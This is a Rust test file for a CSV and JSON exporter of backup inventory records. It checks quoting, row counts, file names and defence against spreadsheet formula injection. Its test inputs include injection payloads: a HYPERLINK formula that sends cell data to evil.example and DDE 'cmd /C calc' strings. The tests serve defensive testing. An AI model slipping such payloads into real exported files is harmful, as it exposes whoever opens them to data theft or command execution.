use super::*;
use crate::api::cinder::{Row, answer};
use proptest::prelude::*;
use serde_json::Value as Json;

const COMMA: Format = Format::Csv(Delimiter::Comma);
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

fn about(rows: usize) -> Provenance {
    Provenance {
        project_id: "p".to_owned(),
        as_of: Instant::parse("2026-11-24T09:41:00.123456").unwrap(),
        filters: "-status:available".to_owned(),
        extent: "partial: 11,000 of 12,431".to_owned(),
        rows,
    }
}

fn push(writer: &mut Writer, row: &Row) {
    writer.push(&row.read, row.raw(), &VolumeInventory::default());
}

fn written(format: Format, rows: &[Row]) -> String {
    let mut writer = Writer::new(format, about(rows.len()));
    for row in rows {
        push(&mut writer, row);
    }
    writer.finish().unwrap()
}

fn row(json: &str) -> Row {
    answer::one(format!(r#"{{"backup": {json}}}"#).as_bytes()).unwrap()
}

fn named(name: &str) -> Row {
    row(&serde_json::json!({"id": "a", "status": "available", "name": name}).to_string())
}

/// Strict RFC 4180: every record ends in CRLF, a quote is quoted and doubled. Returns each cell's text and whether it
/// was quoted.
fn read(csv: &str, delimiter: char) -> Result<Vec<Vec<(String, bool)>>, String> {
    let mut rest = csv.strip_prefix('\u{feff}').ok_or("no byte order mark")?;
    let (mut records, mut record) = (Vec::new(), Vec::new());
    while !rest.is_empty() {
        let mut text = String::new();
        let is_quoted = rest.starts_with('"');
        if is_quoted {
            rest = &rest[1..];
            loop {
                let end = rest.find('"').ok_or("an open quote")?;
                text += &rest[..end];
                rest = &rest[end + 1..];
                let Some(more) = rest.strip_prefix('"') else { break };
                text.push('"');
                rest = more;
            }
        } else {
            let end = rest.find([delimiter, '"', '\r', '\n']).ok_or("no end")?;
            text += &rest[..end];
            rest = &rest[end..];
        }
        record.push((text, is_quoted));
        if let Some(more) = rest.strip_prefix(delimiter) {
            rest = more;
        } else {
            rest = rest.strip_prefix("\r\n").ok_or_else(|| format!("stray text: {rest:.20}"))?;
            records.push(std::mem::take(&mut record));
        }
    }
    if record.is_empty() { Ok(records) } else { Err("the last record has no end".to_owned()) }
}

/// A cell as a program should read it: without the guarding apostrophe.
fn unguarded(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        "[=+@,;\"' \t\r\n\0a1＝＋－＠\u{feff}\u{a0}💾-]{0,10}",
        "\\PC{0,12}",
        Just("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".to_owned()),
        Just("nightly;=cmd|' /C calc'!A0".to_owned()),
        Just("{\"DESC\": \"weekly\", \"INC\": 1}".to_owned()),
    ]
}

fn any_json() -> impl Strategy<Value = Json> {
    let leaf = prop_oneof![
        Just(Json::Null),
        any::<bool>().prop_map(Json::from),
        any::<i64>().prop_map(Json::from),
        any::<i32>().prop_map(|eighths| Json::from(f64::from(eighths) / 8.0)),
        any_text().prop_map(Json::from),
        Just(Json::from("2026-11-23T02:00:00.000000")),
        Just(Json::from(i64::MIN)),
        Just(Json::from(i64::MIN + 1)),
    ];
    leaf.prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..3).prop_map(Json::from),
            prop::collection::vec((any_text(), inner), 0..3)
                .prop_map(|pairs| Json::Object(pairs.into_iter().collect())),
        ]
    })
}

/// A row with arbitrary JSON in any member except its id and its status.
fn any_members() -> impl Strategy<Value = serde_json::Map<String, Json>> {
    let key = prop::sample::select(
        NAMES[..]
            .iter()
            .filter(|name| !matches!(**name, "id" | "status"))
            .chain([&"links"])
            .copied()
            .collect::<Vec<_>>(),
    );
    prop::collection::btree_map(key, any_json(), 0..20)
        .prop_map(|members| members.into_iter().map(|(key, value)| (key.to_owned(), value)).collect())
}

fn any_row() -> impl Strategy<Value = Json> {
    prop_oneof![
        8 => (any_members(), "[a-f0-9]{8}", "error|available|Archiving").prop_map(|(mut members, id, status)| {
            members.insert("id".to_owned(), id.into());
            members.insert("status".to_owned(), status.into());
            Json::Object(members)
        }),
        1 => any_members().prop_map(Json::Object),
        1 => any_json(),
    ]
}

/// The value expected in the JSON file: times are normalised, null equals missing.
fn expected(member: Option<&Json>, name: &str) -> Json {
    let time = |text: &str| Instant::parse(text.trim()).map(|instant| instant.to_string());
    match member {
        // No volumes are known in this test.
        _ if name == VOLUME_NAME => Json::Null,
        None => Json::Null,
        Some(Json::String(text)) if name.ends_with("_at") || name == "data_timestamp" => {
            time(text).unwrap_or_else(|| text.clone()).into()
        }
        Some(value) => value.clone(),
    }
}

#[test]
fn a_csv_file_has_one_header_and_says_in_every_row_where_it_is_from() {
    let backup =
        row(r#"{"id": "a", "status": "error", "name": "-x", "size": -1, "object_count": 6.5, "is_incremental": false,
            "created_at": "2026-11-23T02:00:00.000000", "updated_at": "soon", "description": "",
            "os-backup-project-attr:project_id": "q", "metadata": {"k": "v\n"}, "container": ["a;b"]}"#);
    let broken = row("{\"status\": \"ERROR\",\n \"fail_reason\": \"=1\"}");
    assert_eq!(
        written(COMMA, &[backup.clone(), broken.clone()]),
        "\u{feff}id,name,status,fail_reason,volume_id,volume_name,is_incremental,size,object_count,data_timestamp,created_at,\
         updated_at,availability_zone,container,snapshot_id,has_dependent_backups,description,project_id,user_id,\
         encryption_key_id,metadata,as_of,extent,filters,unreadable\r\n\
         a,'-x,error,,,,false,-1,6.5,,2026-11-23T02:00:00.000000Z,\
         soon,,\"[\"\"a;b\"\"]\",,,\"\",q,,,\"{\"\"k\"\":\"\"v\\n\"\"}\",\
         2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available,\r\n\
         ,,error,'=1,,,,,,,,,,,,,,,,,,\
         2026-11-24T09:41:00.123456Z,\"partial: 11,000 of 12,431\",'-status:available,\
         \"{\"\"status\"\": \"\"ERROR\"\",\n \"\"fail_reason\"\": \"\"=1\"\"}\"\r\n"
    );
    let semicolons = written(Format::Csv(Delimiter::Semicolon), &[backup, broken]);
    assert!(
        semicolons.contains("\r\na;'-x;error;;;;false;-1;6.5;;2026-11-23T02:00:00.000000Z;soon;;\"[\"\"a;b\"\"]\";"),
        "{semicolons}"
    );
}

#[test]
fn a_json_file_has_a_backup_a_line() {
    let odd = row("{\"id\": \"b\", \"status\": \"error\", \"size\": \"40\", \"name\": [1,\n2], \"links\": 5}");
    let json = written(
        Format::Json,
        &[named("=1"), named("\0\u{1f4be}\""), odd, row("{\"status\":\n\"error\"}"), row("null")],
    );
    let lines: Vec<_> = json.split('\n').collect();
    assert_eq!(
        lines[0],
        r#"{"project_id":"p","as_of":"2026-11-24T09:41:00.123456Z","filters":"-status:available","extent":"partial: 11,000 of 12,431","count":5,"backups":["#
    );
    assert!(lines[1].starts_with(r#"{"id":"a","name":"=1","status":"available","fail_reason":null,"#));
    assert!(lines[2].starts_with(r#"{"id":"a","name":"\u0000💾\"","#));
    assert!(
        lines[3].starts_with(r#"{"id":"b","name":[1, 2],"status":"error","#) && lines[3].ends_with(r#","links":5},"#)
    );
    assert_eq!(lines[4..], ["{\"status\": \"error\"},", "null", "]}", ""]);
}

#[test]
fn what_a_spreadsheet_would_run_gets_an_apostrophe() {
    for text in [
        "=HYPERLINK(\"x\")",
        "=1",
        "+cmd|' /C calc'!A0",
        "-x",
        "-1+1",
        "+1-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\0=1",
        "\u{feff}=1",
        " \u{a0}=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "'=1",
        "'quoted'",
        "--",
    ] {
        let mut csv = String::new();
        cell(&mut csv, text);
        let cells = read(&format!("\u{feff}{csv}\r\n"), ',').unwrap();
        assert_eq!(cells[0][0].0, format!("'{text}"));
    }
}

#[test]
fn nothing_else_in_a_text_is_changed() {
    for text in [
        "-5",
        "+49 170 1234567",
        "-1.5",
        "+1,000",
        "-",
        "\ta",
        "\ra",
        "a; =1;b",
        "a\n=1",
        "a;\"=1",
        "\"=1",
        "a-b=c, =d",
        "!=",
        "",
        "it's",
        "nightly;=cmd|' /C calc'!A0",
        "a\r\n@x",
    ] {
        let mut csv = String::new();
        cell(&mut csv, text);
        let cells = read(&format!("\u{feff}{csv}\r\n"), ';').unwrap();
        assert_eq!(cells[0][0].0, text);
    }
}

#[test]
fn a_file_without_rows_is_whole() {
    assert_eq!(read(&written(COMMA, &[]), ',').unwrap().len(), 1);
    let json: serde_json::Value = serde_json::from_str(&written(Format::Json, &[])).unwrap();
    assert_eq!(json["backups"], serde_json::json!([]));
}

#[test]
fn a_file_with_another_number_of_rows_is_refused() {
    for format in Format::all(Delimiter::Semicolon) {
        let mut writer = Writer::new(format, about(2));
        push(&mut writer, &named("a"));
        let refused = writer.finish().unwrap_err();
        assert_eq!(refused, RowCountMismatch { expected: 2, written: 1 });
        assert_eq!(refused.to_string(), "1 row was written where 2 were expected: nothing was saved.");
    }
    let mut writer = Writer::new(COMMA, about(1));
    push(&mut writer, &named("a"));
    push(&mut writer, &named("a"));
    assert_eq!(
        writer.finish().unwrap_err().to_string(),
        "2 rows were written where 1 was expected: nothing was saved."
    );
    let many = RowCountMismatch { expected: 12_431, written: 12_430 };
    assert_eq!(many.to_string(), "12,430 rows were written where 12,431 were expected: nothing was saved.");
}

#[test]
fn a_file_is_named_after_its_time_and_its_rows() {
    assert_eq!(file_name(COMMA, &about(412)), "backups_20261124T094100Z_412-rows.csv");
    assert_eq!(file_name(Format::Json, &about(1)), "backups_20261124T094100Z_1-row.json");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    #[test]
    fn every_csv_reads_back_to_its_cells(texts in prop::collection::vec(any_text(), 3), semicolon: bool) {
        let row = row(&serde_json::json!({"id": "a", "status": "error", "name": texts[0], "fail_reason": texts[1], "container": texts[2]}).to_string());
        let delimiter = if semicolon { Delimiter::Semicolon } else { Delimiter::Comma };
        let records = read(&written(Format::Csv(delimiter), &[row]), delimiter.sign()).map_err(TestCaseError::fail)?;
        prop_assert_eq!(records.len(), 2);
        prop_assert_eq!(records[0].len(), records[1].len());
        for (name, text) in [("name", &texts[0]), ("fail_reason", &texts[1]), ("container", &texts[2])] {
            let place = records[0].iter().position(|(known, _)| known == name).unwrap();
            let (cell, is_quoted) = &records[1][place];
            prop_assert_eq!(unguarded(cell), text);
            prop_assert!(!cell.is_empty() || *is_quoted);
            let begins = cell.trim_start_matches(|c: char| c <= ' ' || c.is_whitespace() || c == '\u{feff}');
            let is_number = begins.trim_end().chars().all(|c| c.is_ascii_digit() || "+-., ".contains(c));
            prop_assert!(is_number || !begins.starts_with(FORMULA), "{cell:?}");
        }
    }

    #[test]
    fn whatever_a_member_is_the_files_have_it(rows in prop::collection::vec(any_row(), 0..4)) {
        let body = serde_json::json!({ "backups": rows }).to_string();
        let page = answer::list(body.as_bytes()).unwrap();
        for (row, json) in page.rows.iter().zip(&rows) {
            let is_backup = json["id"].is_string() && json["status"].is_string();
            prop_assert_eq!(row.read.is_ok(), is_backup);
        }
        let json: Json = serde_json::from_str(&written(Format::Json, &page.rows)).unwrap();
        prop_assert_eq!(&json["count"], rows.len());
        let written_rows = json["backups"].as_array().unwrap();
        prop_assert_eq!(written_rows.len(), rows.len());
        for ((found, row), read) in written_rows.iter().zip(&rows).zip(&page.rows) {
            if read.read.is_err() {
                prop_assert_eq!(found, row);
                continue;
            }
            for name in NAMES {
                prop_assert_eq!(&found[name], &expected(row.get(name), name), "{}", name);
            }
        }
        for delimiter in Delimiter::ALL {
            let records = read(&written(Format::Csv(delimiter), &page.rows), delimiter.sign()).map_err(TestCaseError::fail)?;
            prop_assert_eq!(records.len(), rows.len() + 1);
            for ((record, row), listed) in records[1..].iter().zip(&rows).zip(&page.rows) {
                prop_assert_eq!(record.len(), records[0].len());
                let raw = unguarded(&record[24].0);
                if listed.read.is_err() {
                    prop_assert_eq!(serde_json::from_str::<Json>(raw).unwrap(), row.clone());
                } else {
                    prop_assert_eq!(raw, "");
                }
                for (name, (cell, _)) in NAMES.into_iter().zip(record).filter(|(name, _)| !matches!(*name, "id" | "status")) {
                    let cell = unguarded(cell);
                    match expected(row.get(name), name) {
                        Json::Null => prop_assert_eq!(cell, ""),
                        Json::String(text) => prop_assert_eq!(cell, text),
                        value => prop_assert_eq!(serde_json::from_str::<Json>(cell).unwrap(), value),
                    }
                }
            }
        }
    }

    #[test]
    fn what_the_inventory_keeps_is_written_alike(rows in prop::collection::vec(any_row(), 0..4)) {
        let body = serde_json::json!({ "backups": rows }).to_string();
        let page = answer::list(body.as_bytes()).unwrap();
        let mut all = crate::inventory::Inventory::default();
        let mut kept = Vec::new();
        for row in &page.rows {
            if all.push(row) {
                kept.push(row.clone());
            }
        }
        prop_assert_eq!(all.len(), kept.len());
        for format in [COMMA, Format::Json] {
            let mut writer = Writer::new(format, about(kept.len()));
            for entry in all.iter() {
                writer.push(&entry.read(), entry.raw().unwrap_or_default(), &VolumeInventory::default());
            }
            prop_assert_eq!(writer.finish().unwrap(), written(format, &kept));
        }
    }

    #[test]
    fn no_file_system_refuses_the_name(millis in any::<i64>(), rows in any::<usize>()) {
        let about = Provenance { as_of: Instant::from_millis(millis / 1_000_000), ..about(rows) };
        let name = file_name(COMMA, &about);
        prop_assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)), "{name}");
    }
}

#[test]
fn a_volume_has_its_name_beside_its_id_and_no_spreadsheet_runs_it() {
    let volumes = crate::inventory::volumes::tests::volumes(&[r#"{"id": "v", "name": "=web"}"#]);
    let row = row(r#"{"id": "a", "status": "available", "volume_id": "v"}"#);
    let text = |format| {
        let mut writer = Writer::new(format, about(1));
        writer.push(&row.read, row.raw(), &volumes);
        writer.finish().unwrap()
    };
    assert!(text(COMMA).contains("\r\na,,available,,v,'=web,"), "{}", text(COMMA));
    assert!(text(Format::Json).contains(r#""volume_id":"v","volume_name":"=web","#), "{}", text(Format::Json));
}
